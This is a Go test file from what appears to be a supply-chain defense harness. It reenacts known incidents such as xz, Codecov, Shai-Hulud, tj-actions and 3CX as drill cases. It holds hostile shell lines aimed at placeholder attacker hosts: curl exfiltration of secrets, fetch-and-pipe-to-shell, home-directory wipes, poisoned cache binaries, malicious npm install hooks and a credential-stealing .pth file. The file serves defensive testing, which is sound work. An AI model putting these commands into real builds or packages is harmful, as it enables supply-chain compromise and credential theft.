package drill

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"time"

	"github.com/sallyport/sallyport/internal/boundary"
)

// incidentCases are whole incidents, end to end: several people's pipelines on
// one machine, one after the other.
func incidentCases() []Case {
	return []Case{
		tanstack(), shaiHulud(), tjActions(), sunspot(), xz(), codecov(), ultralytics(), axios(), litellm(), dependencyConfusion(), eventStream(), threeCX(),
	}
}

// incident is a case that tells one story.
func incident(name, tongue, title string, story []string, acts []Act, links []Link) Case {
	return Case{Name: name, Tongue: tongue, Needs: []string{"curl", "/usr/bin/python3"}, Files: map[string]string{"evil/payload.py": payload("payload.py")},
		Acts: acts, Attacks: []Attack{{ID: name, Technique: name, Title: title, Story: story, Links: links}}}
}

// sent is a shell command that sends the carrier, and what else is said, to one
// path of the attacker's host.
func sent(path, what string) string {
	return fmt.Sprintf(`curl -sm2 -d "@CARRIER@ %s" http://@HTTP@/%s >/dev/null 2>&1`, what, path)
}

// payloadOf runs the verbs of the Python payload. What they keep goes into the
// log too, so that a run whose tree is thrown away shows it.
func payloadOf(verbs string) string {
	return "/usr/bin/python3 evil/payload.py " + verbs
}

// step is one exec of a job.
func step(zone boundary.Zone, command string) Act {
	return Act{Stages: []Stage{{Zone: zone, Command: ranStep(command)}}}
}

// released is one whole run that ends with an artifact.
func released(out, command string) Act {
	return Act{Whole: true, Stages: []Stage{{Zone: boundary.Build, Out: out, Command: ranStep("mkdir -p dist; " + command)}}}
}

func backdoored(w *World) bool { return bytes.Contains(w.artifacts(), []byte("BACKDOOR")) }

func carriedTo(path string) func(w *World) bool {
	return func(w *World) bool { return w.carried("http/" + path) }
}

// poisonedCache is a fork's run that changes what later runs restore.
const poisonedCache = `printf '#!/bin/sh\necho BACKDOOR\ncurl -sm2 -d @CARRIER@ http://@HTTP@/cached-tool >/dev/null 2>&1\n' >@CACHE@/bin/tsc`

func tanstack() Case {
	return incident("tanstack", "sh", "TanStack, 2026-05-11: from a fork's change to signed malware in twenty minutes", []string{
		"A pull request from a fork ran in a workflow with the repository's rights, and wrote the package cache that releases share.",
		"The release run restored that cache. What lay in it read the publishing token out of the runner's memory.",
		"84 versions of 42 packages were published from runs that ended in failure, each with valid provenance.",
		"A switch wiped the home directory of whoever revoked the token. It took about 20 minutes.",
	}, []Act{
		step(boundary.Test, poisonedCache),
		{Whole: true, Stages: []Stage{{Zone: boundary.Build, Out: "dist/app", Command: ranStep("mkdir -p dist; PATH=@CACHE@/bin:$PATH tsc >dist/app 2>/dev/null || echo built >dist/app; " + payloadOf("memory") + "; " +
			sent("registry/pkg", "84 versions") + "; rm -rf @HOME@/docs; exit 1")}}},
	}, []Link{
		{"a fork's run writes the cache that releases restore", "SP8: caches are written by the controller alone", Harm, func(w *World) bool { return w.has("cache/bin/tsc") }},
		{"the release run executes what lies in it", "SP5: only code pinned by digest runs in a release", Harm, carriedTo("cached-tool")},
		{"reads the token in the runner's memory", wallProcesses, Theft, func(w *World) bool { return w.stole(w.sinks.got("http/memory"), Memory) }},
		{"reaches a host of the attacker", wallRoute, Harm, carriedTo("memory")},
		{"publishes by itself, from a run that fails", wallVerdict, Harm, carriedTo("registry/pkg")},
		{"wipes the home directory", wallFiles, Harm, func(w *World) bool { return len(w.read("home/docs/diary.txt")) == 0 }},
	})
}

func shaiHulud() Case {
	c := incident("shai-hulud-2", "npm", "Shai-Hulud 2.0, 2025-11-24: the worm that brings its own runtime", []string{
		"Stolen tokens published new versions with a preinstall script.",
		"It fetched a second runtime, so that nobody who watched node saw it, and collected credentials from files, variables and clouds.",
		"It republished up to 100 packages of each victim, and left a workflow that opens the repository's secrets.",
		"Where it could neither send nor spread it deleted the home directory. One victim lost 669 copies of repositories in 17 hours.",
	}, []Act{step(boundary.Generate, "npm pack ./evil --silent && npm install --offline --foreground-scripts ./evil-1.0.0.tgz")}, []Link{
		{"fetches a runtime of its own", wallRoute, Harm, func(w *World) bool { return len(w.sinks.got("http/runtime-ran")) > 0 }},
		{"collects credentials", wallSecrets, Way, w1("loot-steal", Env, Npmrc, AWS, SSH)},
		sends("steal"), arrives("steal", Env, Npmrc, AWS, SSH),
		{"republishes with a token that it brought along", wallRoute, Harm, carriedTo("registry/victim")},
		{"leaves a workflow in the checkout", wallSource, Harm, func(w *World) bool { return len(w.read("src/.github/workflows/discussion.yml")) > 0 }},
		{"deletes the home directory when it is stopped", wallFiles, Harm, func(w *World) bool { return len(w.read("home/docs/diary.txt")) == 0 }},
	})
	c.Needs = append(c.Needs, "npm")
	c.Files["package.json"] = `{"name": "victim", "version": "1.0.0"}`
	c.Files["evil/package.json"] = `{"name": "evil", "version": "1.0.0", "scripts": {"preinstall": "sh worm.sh"}}`
	c.Files["evil/payload.js"] = payload("payload.js")
	c.Files["evil/worm.sh"] = "curl -sm2 http://@HTTP@/runtime | sh\nnode payload.js steal\n" +
		`curl -sm2 -X PUT -H 'Authorization: Bearer brought-along' -d @CARRIER@ http://@HTTP@/registry/victim` + "\n" +
		"mkdir -p @SRC@/.github/workflows && echo 'on: discussion' >@SRC@/.github/workflows/discussion.yml\nrm -rf @HOME@/docs ~/docs\nexit 0\n"
	c.Prepare = func(_ context.Context, w *World) error {
		w.sinks.answer("/runtime", []byte("curl -sm2 -d ran http://"+w.sinks.HTTP+"/runtime-ran"))
		return nil
	}
	return c
}

func tjActions() Case {
	c := incident("tj-actions", "python", "tj-actions/changed-files, 2025-03-14: a moved tag and a job's log", []string{
		"All version tags of a popular action were moved to one commit.",
		"In 23,000 repositories that named a tag, it read the memory of the runner's worker process.",
		"What it found was printed into the job's log, encoded twice, where in public repositories everybody could read it.",
	}, []Act{step(boundary.Build, "sh @TOOLS@/action.sh; "+payloadOf("memory log")+"; test ! -e loot-memory || base64 loot-memory | base64 | sed 's/^/log: /'")}, []Link{
		{"runs what the moved tag names", "SP5: code comes by digest, from a lockfile", Harm, func(w *World) bool { return len(w.read("src/tag-ran")) > 0 }},
		{"reads the memory of the worker", wallProcesses, Way, w1("loot-memory", Memory)},
		{"prints the job's secrets, encoded twice", wallSecrets, Theft, func(w *World) bool { return w.stole(w.logLines("log: "), Env, Npmrc, AWS, SSH, Memory) }},
	})
	c.Prepare = func(_ context.Context, w *World) error { return w.write("/tools/action.sh", "echo reviewed\n") }
	c.Acts[0].Before = func(_ context.Context, w *World) error {
		return w.write("/tools/action.sh", "echo moved >@SRC@/tag-ran\n")
	}
	return c
}

func sunspot() Case {
	c := incident("sunspot", "sh", "SolarWinds SUNSPOT, 2020: the source that was swapped while it was compiled", []string{
		"An implant on the build host watched for the compiler building one product.",
		"It swapped one source file, and put the old one back when the compiler was done.",
		"The product was then signed as usual, and shipped for nine months.",
	}, []Act{
		{Stages: []Stage{{Zone: boundary.Build, Command: ranStep(`setsid sh implant.sh >/dev/null 2>&1 </dev/null & sleep 0.2`)}},
			Later: `a=$(wc -c <beat); sleep 0.3; b=$(wc -c <beat); test "$a" = "$b" || echo alive >alive`},
		released("dist/app", "touch building; sleep 0.4; cp main.txt dist/app"),
		released("dist/app2", "cp main.txt old; echo BACKDOOR2 >>main.txt; cp main.txt dist/app2; cp old main.txt"),
	}, []Link{
		{"an implant outlives the step that brought it", wallEnd, Harm, func(w *World) bool { return len(w.read("src/alive")) > 0 }},
		{"it swaps the source during a release", "each zone is fresh, over the source by digest", Harm, func(w *World) bool { return bytes.Contains(w.artifacts(), []byte("BACKDOOR\n")) }},
		{"code in the very zone of the compiler swaps a file and puts it back", "", Bound, func(w *World) bool { return bytes.Contains(w.artifacts(), []byte("BACKDOOR2")) }},
	})
	c.Attacks[0].Bounds = "code that a build runs can change what that build makes: it is recorded (source-untouched), and refuses under --policy strict"
	c.Files["main.txt"] = "program\n"
	c.Files["implant.sh"] = "echo . >beat\nwhile test -e @DIR@/out; do\n  echo . >>beat\n  sleep 0.03\n  if test -e building && test ! -e swapped; then cp main.txt old; echo BACKDOOR >>main.txt; touch swapped; fi\n" +
		"  if test -e swapped && test -e dist/app && test ! -e back; then cp old main.txt; touch back; fi\ndone\n"
	return c
}

func xz() Case {
	c := incident("xz", "sh", "xz-utils 5.6, 2024-03: the payload in the test data", []string{
		"After two years of patient work a new maintainer put a payload into files that looked like test data.",
		"A macro that was in the release tarball alone, not in the repository, decoded it during configure and patched the build.",
		"It acted only when distribution packages were built. One slow login gave it away after five weeks.",
	}, []Act{
		released("dist/app", `sh configure.sh; cp main.txt dist/app`),
		{Whole: true, Stages: []Stage{{Zone: boundary.Generate, Command: ranStep("sh configure.sh; echo yes >configured"), Keep: "configured"}, {Zone: boundary.Build, Out: "dist/app2", Command: "mkdir -p dist; cp main.txt dist/app2; echo . >>dist/app2"}}},
	}, []Link{
		{"the build patches its own source, and that is released", "SP7: a build that rewrites its source gets no verdict", Harm, func(w *World) bool { return bytes.Contains(w.out("app"), []byte("BACKDOOR")) }},
		{"what configure changed reaches the compiler", wallHandOn, Harm, func(w *World) bool { return bytes.Contains(w.out("app2"), []byte("BACKDOOR")) }},
	})
	c.Files["main.txt"], c.Files["tests/bad.bin"], c.Files["configure.sh"] = "program\n", "xz\x00\x01QkFDS0RPT1IK", "tail -c +5 tests/bad.bin | base64 -d >>main.txt\n"
	return c
}

func codecov() Case {
	c := incident("codecov", "sh", "Codecov, 2021: one line in a script that everybody pipes into a shell", []string{
		"A key in an image layer let somebody change the uploader script where it was served.",
		"One added line sent all variables of the job, and the address of the repository with its token.",
		"It was there for two months, until a customer compared checksums.",
	}, []Act{step(boundary.Test, "git config --get remote.origin.url >loot-git; curl -sm2 http://@HTTP@/uploader.sh | sh; true")}, []Link{
		{"runs a script that nobody pinned", wallRoute, Harm, carriedTo("upload")},
		{"the script has the job's variables to send", wallSecrets, Theft, func(w *World) bool { return w.stole(w.sinks.got("http/upload"), Env) }},
		{"reads the forge's token in .git/config", "credentials in the checkout are not shown", Way, w1("loot-git", Docker)},
	})
	c.Needs = append(c.Needs, "git")
	c.Prepare = func(ctx context.Context, w *World) error {
		w.sinks.answer("/uploader.sh", []byte(w.fill(sent("upload", "$(env)"))))
		_, err1 := w.command(ctx, &w.log, w.env(), "git", "init", "-q")
		_, err2 := w.command(ctx, &w.log, w.env(), "git", "remote", "add", "origin", "https://x:"+w.kit[Docker]+"@forge.example/r.git")
		return errors.Join(err1, err2)
	}
	return c
}

func ultralytics() Case {
	return incident("ultralytics", "python", "Ultralytics, 2024-12: a cache that changed the wheel after its review", []string{
		"The name of a branch ran as a command in a workflow for pull requests, and poisoned the build cache.",
		"The release run took the poisoned cache: the wheel held a miner, the reviewed source did not.",
		"Trusted publishing and its signatures were valid. Days later a stolen token published two more versions.",
	}, []Act{
		step(boundary.Test, poisonedCache),
		released("dist/app", "PATH=@CACHE@/bin:$PATH tsc >dist/app 2>/dev/null || echo built >dist/app; "+payloadOf("steal")+"; "+sent("registry/wheel", "8.3.45")),
	}, []Link{
		{"a pull request writes the cache that releases restore", "SP8: caches are written by the controller alone", Harm, func(w *World) bool { return w.has("cache/bin/tsc") }},
		{"the released wheel is not what was reviewed", "SP5: only code pinned by digest runs in a release", Harm, backdoored},
		{"the publishing token leaves with it", wallSecrets, Theft, func(w *World) bool { return w.stole(w.sinks.got("http/steal"), Env, Npmrc, AWS) }},
		{"publishes once more by itself", wallRoute, Harm, carriedTo("registry/wheel")},
	})
}

func axios() Case {
	c := incident("axios-2026", "npm", "axios, 2026-03-31: the dependency that cleans up after itself", []string{
		"A maintainer's account published two versions outside of the project's pipeline.",
		"They wanted a new dependency, staged 18 hours before, that nothing ever imported.",
		"Its install script fetched a trojan, then deleted itself and put a clean manifest in its place. Three hours.",
	}, []Act{
		{Stages: []Stage{{Zone: boundary.Fetch, Command: ranStep("npm install --ignore-scripts; true")}}, Later: "cp node_modules/plain-crypto/index.js fetched.js 2>/dev/null; true"},
		step(boundary.Generate, "rm -f sallyport.yaml package.json; npm pack ./evil --silent && npm install --offline --foreground-scripts ./evil-4.2.1.tgz"),
	}, []Link{
		{"a version 18 hours old is installed", wallAge, Harm, func(w *World) bool { return len(w.read("src/fetched.js")) > 0 }},
		{"the install script fetches a trojan", wallRoute, Harm, func(w *World) bool { return len(w.sinks.got("http/trojan-ran")) > 0 }},
		{"it collects credentials", wallSecrets, Way, w1("loot-steal", Env, Npmrc, AWS, SSH)},
		sends("steal"), arrives("steal", Env, Npmrc, AWS, SSH),
	})
	c.Needs = append(c.Needs, "npm")
	c.Env = []string{"npm_config_registry=http://@HTTP@/npm/", "npm_config_fetch_retries=0"}
	c.Files["package.json"], c.Files["sallyport.yaml"] = manifest("plain-crypto", "^4.0.0"), fmt.Sprintf(settings, "min_age: 3d")
	c.Files["evil/package.json"] = `{"name": "evil", "version": "4.2.1", "scripts": {"postinstall": "node payload.js steal; sh setup.sh"}}`
	c.Files["evil/clean.json"] = `{"name": "evil", "version": "4.2.0"}`
	c.Files["evil/setup.sh"] = "curl -sm2 http://@HTTP@/trojan | sh\nrm -f payload.js setup.sh; mv clean.json package.json\nexit 0\n"
	c.Files["evil/payload.js"] = payload("payload.js")
	return c.prepared(func(w *World, u *upstream) error {
		u.publish("plain-crypto", "4.2.1", 18*time.Hour, "BACKDOOR")
		w.sinks.answer("/trojan", []byte("curl -sm2 -d ran http://"+w.sinks.HTTP+"/trojan-ran"))
		return nil
	})
}

func litellm() Case {
	c := incident("litellm-pth", "python", "litellm, 2026-03-24: the file that runs at every start of Python", []string{
		"The project's CI ran a scanner in the job that held its publishing token. The scanner had been taken over days before.",
		"The version published with that token had a .pth file, which every Python process runs at its start; all hashes were right.",
		"It took variables, keys, cloud and cluster credentials. A bug in it forked without end, and gave it away after three hours.",
	}, []Act{step(boundary.Test, `/usr/bin/python3 -c "import site; site.addsitedir('lib')"`)}, []Link{
		{"collects credentials", wallSecrets, Way, w1("loot-steal", Env, Npmrc, AWS, SSH)},
		sends("steal"), arrives("steal", Env, Npmrc, AWS, SSH),
		{"takes the machine's credentials from the cloud", "the metadata address is the zone's own", Theft, func(w *World) bool { return w.stole(w.sinks.got("http/metadata"), Metadata) }},
		{"takes the token of another process", wallProcesses, Theft, func(w *World) bool { return w.stole(w.sinks.got("http/environ"), Process) }},
	})
	c.Files["lib/x.pth"] = "import sys; sys.path.insert(0, '@SRC@/evil'); import payload; payload.run(['steal', 'metadata', 'environ'])\n"
	return c
}

func dependencyConfusion() Case {
	const name = "acme-internal"
	c := incident("dependency-confusion", "npm", "Dependency confusion, 2021-02: the public package with an internal name", []string{
		"A researcher published packages under names that companies use only inside, with higher versions.",
		"Package managers that ask both registries took the public ones, in more than 35 companies.",
		"An install script sent user, host and path out as DNS queries, which most networks let through.",
	}, []Act{
		step(boundary.Fetch, "npm install --ignore-scripts; true"),
		step(boundary.Generate, "rm -f sallyport.yaml package.json; "+payloadOf("dns steal")),
	}, []Link{
		{"the public package is taken for the internal one", "own names never come from the default registry", Harm, func(w *World) bool { return len(w.read("src/node_modules/"+name+"/index.js")) > 0 }},
		{"its script sends DNS queries", wallRoute, Harm, func(w *World) bool { return w.carried("dns") }},
		{"it has something to spell in them", wallSecrets, Theft, func(w *World) bool { return w.stole(w.sinks.got("dns"), Env) }},
	})
	c.Needs = append(c.Needs, "npm")
	c.Env = []string{"npm_config_registry=http://@HTTP@/npm/", "npm_config_fetch_retries=0"}
	c.Files["package.json"], c.Files["sallyport.yaml"] = manifest(name, ">=1.0.0"), fmt.Sprintf(settings, "internal: [\"acme-*\"]")
	return c.prepared(func(_ *World, u *upstream) error { u.publish(name, "99.0.0", 400*day, "BACKDOOR"); return nil })
}

func eventStream() Case {
	c := incident("event-stream", "sh", "event-stream, 2018: the payload for one victim", []string{
		"A helpful stranger was given a package that its author no longer needed, and added a dependency to it.",
		"Its payload was encrypted with the description of one wallet's package: nobody else's build ever showed it.",
		"In that wallet's release build it changed a file of another package; the shipped app then took keys. Two months.",
	}, []Act{released("dist/app", `cp main.txt dist/app; if grep -q wallet package.json; then echo BACKDOOR >>dist/app; `+payloadOf("steal")+"; fi")}, []Link{
		{"takes credentials of the build", wallSecrets, Theft, func(w *World) bool { return w.stole(w.sinks.got("http/steal"), Env, Npmrc, AWS) }},
		{"sends to a host of the attacker during the build", wallRoute, Harm, carriedTo("steal")},
		{"puts its code into the released app, the same in every build", "", Bound, backdoored},
	})
	c.Attacks[0].Bounds = "a dependency that does its harm inside the artifact builds the same twice; against it stand age, review, and what the app may do when it runs"
	c.Files["main.txt"], c.Files["package.json"] = "program\n", `{"name": "app", "version": "1.0.0", "description": "a wallet"}`
	return c
}

func threeCX() Case {
	return incident("3cx", "sh", "3CX, 2023-03: what a tainted tool made was signed as usual", []string{
		"An employee installed a trading program that had been taken over at its own vendor.",
		"From that machine the intruders reached both build environments, and put their library in.",
		"The vendor's own key signed the result, since it signed whatever the build gave it.",
	}, []Act{
		step(boundary.Build, "printf '#!/bin/sh\\necho BACKDOOR\\n' >@TOOLS@/cc"),
		{Whole: true, Stages: []Stage{{Zone: boundary.Build, Out: "dist/app", Command: ranStep("mkdir -p dist; sh @TOOLS@/cc >dist/app 2>/dev/null || echo built >dist/app; printf 'log: %s\\n' \"$(env | base64 -w0)\"")}}},
	}, []Link{
		{"a step replaces a tool of the build machine", wallFiles, Harm, func(w *World) bool { return w.has("tools/cc") }},
		{"the release is compiled with it", "SP5: toolchains are read-only, and recorded by digest", Harm, backdoored},
		{"the build can use what signs", "SP1: the key is where no code of the project runs", Theft, func(w *World) bool { return w.stole(w.logLines("log: "), Env) }},
	})
}

// out is one released artifact.
func (w *World) out(name string) []byte {
	b, err := os.ReadFile(w.Out + "/" + name)
	if err != nil {
		return nil
	}
	return b
}
